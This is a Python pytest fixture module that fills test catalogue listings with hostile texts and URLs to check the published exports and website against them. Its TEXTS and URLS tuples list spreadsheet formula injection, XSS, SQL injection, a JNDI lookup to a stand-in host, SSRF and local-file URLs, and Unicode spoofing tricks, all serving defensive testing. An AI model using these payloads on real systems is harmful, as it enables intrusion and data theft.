"""Hostile texts and URLs, a release full of them, and the same with harmless words. All names are invented."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from harvest.night import Night
from publish.exports import write_data
from publish.release import publish
from publish.site.build import build_site
from publish.site.input import site_input
from store.db.published import Edition, edition
from store.model.entry import Change, Entry
from store.model.listing import Kind, Listing, Provenance
from tests.review.build import fill
from tests.store.build import listing

# What stands in the catalogue for what cannot be put there, until the entry has been read (see `spoilt`): UTF-8 holds no lone
# surrogate, and matching takes minutes over a street of 100 kB (dedupe/whereabouts.py, _TRAILING).
_STAND_INS = {"\ue000": "\ud800", "\ue001": "lang é " * 14_300}
TEXTS: tuple[str, ...] = (
    "=cmd|' /C calc'!A0",
    "+SUM(1;2)",
    "-1+1 zwart;wit",
    "@SUM(A1:A9)",
    "＝1+1",
    "\t=tab",
    "\r=regel",
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script><!--",
    '"><img src=x onerror=alert(3)>',
    "{{7*7}}{% raw %}{# weg #}",
    "${jndi:ldap://kwaad.nl/a} ${7*7} & bcc=x&bcc=kwaad",
    "'; DROP TABLE entry; -- \"",
    '","name":"kwaad","\\',
    "a]]>b<![CDATA[c",
    "<!-- --!> <?php ?>",
    "een\nBEGIN:VEVENT\nUID:kwaad\nEND:VEVENT",
    "twee\r\nATTENDEE:mailto:kwaad@kwaad.nl",
    "drie;vier,vijf\\zes\\nzeven\\;acht",
    "links|rechts;midden|",
    "\u202eomgekeerd\u202c en \u2066verstopt\u2069",
    "nul\u200bbreed\u200d\ufeff\u00ad en \ufff9tussen",
    "nul\x00bel\x07esc\x1b[31m\x7f\x85\x9b",
    "los\ue000teken \ufffe\uffff",
    "regel\u2028alinea\u2029einde",
    "lang \ue001",
    "familie 👨\u200d👩\u200d👧 🏳️\u200d🌈",
    "\u200fمرحبا بالعالم\u061c hallo",
    "z" + "\u0301\u0327\u0489" * 60 + "algo",
    "merk\U000e0041\U000e007f javascript:alert(1)",
    '"@context" """ "" Iıİ',
    " \t\u3000\u200b\u2060 ",
)
SAFE_ODD = ('https://odd.nl/"onmouseover=alert(1)', "https://odd.nl/'><script>alert(1)</script>", "https://odd.nl/a|b`{c}^\\%00%zz")
URLS: tuple[str, ...] = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)//https://a.nl", "java\nscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "file:///etc/passwd", "ftp://kwaad.nl/", "//localhost/kwaad", "\\\\kwaad\\map", "https://naam:geheim@kwaad.nl/",
    "http://localhost/", "http://127.0.0.1/", "http://[::1]/", "http://169.254.169.254/latest/", "http://10.0.0.1/", "http://0x7f000001/",
    "http://2130706433/", "http://printer.local/", "http://intranet/", "http://exa mple.nl/", "http://example.nl\n.kwaad.nl/",
    "http://example.nl:99999/", "http://", "about:blank", *SAFE_ODD, "https://xn--\u202e-.nl/",
)  # fmt: skip
WORDS = tuple(f"Gewoon woord {n}" for n in range(len(TEXTS)))
HOMES = tuple(f"https://www.gewoon{n}.nl/" for n in range(len(URLS)))
_KINDS = (Kind.ORGANISATION, Kind.PLACE, Kind.SERVICE, Kind.VACANCY, Kind.ACTIVITY)


def listings(texts: Sequence[str], urls: Sequence[str]) -> list[Listing]:
    """Two a text: one in which every field says it, and an activity that does have a day; one a URL; a pair that disagrees."""
    found = []
    for n, text in enumerate(texts):
        where = {"lat": 50.87 + n / 5e3, "lon": 5.95 + n / 5e3, "location_precision": "address"} if n % 2 else {}
        every: dict[str, Any] = dict.fromkeys(
            ("summary", "address_text", "street", "house_number", "city", "venue", "organiser", "accessibility_note", "opening_hours_text"),
            text,
        ) | {"categories": (text, "a|b"), "target_groups": (text, "a|b")}
        odd = dict.fromkeys(
            (
                "postcode", "phone", "email", "website", "opening_hours", "starts_at", "ends_at", "recurrence", "wheelchair",
                "toilet_wheelchair", "disabled_parking",
            ),
            text,
        )  # fmt: skip
        origins = {f: Provenance(u, "2026-11-18", "ab" * 32, "contract") for f, u in (("name", text), ("summary", urls[n % len(urls)]))}
        found += [
            listing(f"{n}a {text[:90]}", text, "jens", kind=_KINDS[n % 5], provenance=origins, **every, **odd, **where),
            listing(
                f"{n}b", text, "heerlenonline", kind=Kind.ACTIVITY, starts_at=f"2027-01-{n % 28 + 1:02d}T10:00:00", provenance=origins,
                **every, lat=50.92 - n / 5e3, lon=6.0 - n / 5e3, location_precision="exact",
            ),
        ]  # fmt: skip
    found += [
        listing(
            f"u{n}",
            f"Webplek nummer {n}",
            "jens",
            url=u,
            website=u,
            provenance={"name": Provenance(u, "2026-11-18", "ab" * 32, "contract")},
        )
        for n, u in enumerate(urls)
    ]
    same: dict[str, Any] = {"street": "Bongerd", "house_number": "9", "postcode": "6411 JM", "city": "Heerlen", "phone": "+31455550009"}
    for source, text in (("jens", texts[-1] + texts[len(texts) // 2]), ("heerlenonline", texts[0])):
        found.append(
            listing("paar", "Harmonie De Tweespalt", source, **same, website="https://www.tweespalt.nl/", venue=text, organiser=text)
        )
    return found


def spoilt(patch: pytest.MonkeyPatch) -> None:
    """Let what the catalogue gives hold lone surrogates and 100 kB texts, as a catalogue of another make might."""

    def spoil(value: Any) -> Any:
        if isinstance(value, str):
            for stand_in, real in _STAND_INS.items():
                value = value.replace(stand_in, real)
            return value
        if isinstance(value, tuple):
            return tuple(map(spoil, value))
        return {k: spoil(v) for k, v in value.items()} if isinstance(value, dict) else value

    def entry(one: Entry) -> Entry:
        facts = replace(one.facts, **{k: spoil(v) for k, v in one.facts.as_dict().items()})
        origins = {f: replace(o, url=spoil(o.url), source_key=spoil(o.source_key)) for f, o in one.provenance.items()}
        return replace(one, facts=facts, provenance=origins)

    def changed(c: Change) -> Change:
        return replace(c, old=spoil(dict(c.old)), new=spoil(dict(c.new)))

    batches, by_id, changes, rows = Edition.batches, Edition.entry, Edition.changes, Edition.rows
    patch.setattr(Edition, "batches", lambda e: ([entry(x) for x in b] for b in batches(e)))
    patch.setattr(Edition, "entry", lambda e, i: entry(x) if (x := by_id(e, i)) else None)
    patch.setattr(Edition, "changes", lambda e, newest=None: ([changed(x) for x in b] for b in changes(e, newest)))
    patch.setattr(Edition, "rows", lambda e, sql, params: [spoil(r) for r in rows(e, sql, params)])


def release(data: Path, texts: Sequence[str], urls: Sequence[str]) -> Night:
    """A whole release of :func:`listings`."""
    night = fill(data, listings(texts, urls))
    with pytest.MonkeyPatch.context() as patch:
        spoilt(patch)
        publish(night.publishing())
    return night


@contextmanager
def written(night: Night, out: Path, site: bool = True) -> Iterator[Path]:
    """The same files without gate, privacy scan and switch: a web root."""
    p = night.publishing()
    out.mkdir()
    with pytest.MonkeyPatch.context() as patch, edition(night.data, out.with_suffix(".duckdb")) as e:
        spoilt(patch)
        files = write_data(out / "data" / "v1", e, p)
        if site:
            build_site(out, site_input(e, p, "20261121T000000Z-abcdef", files))
        yield out
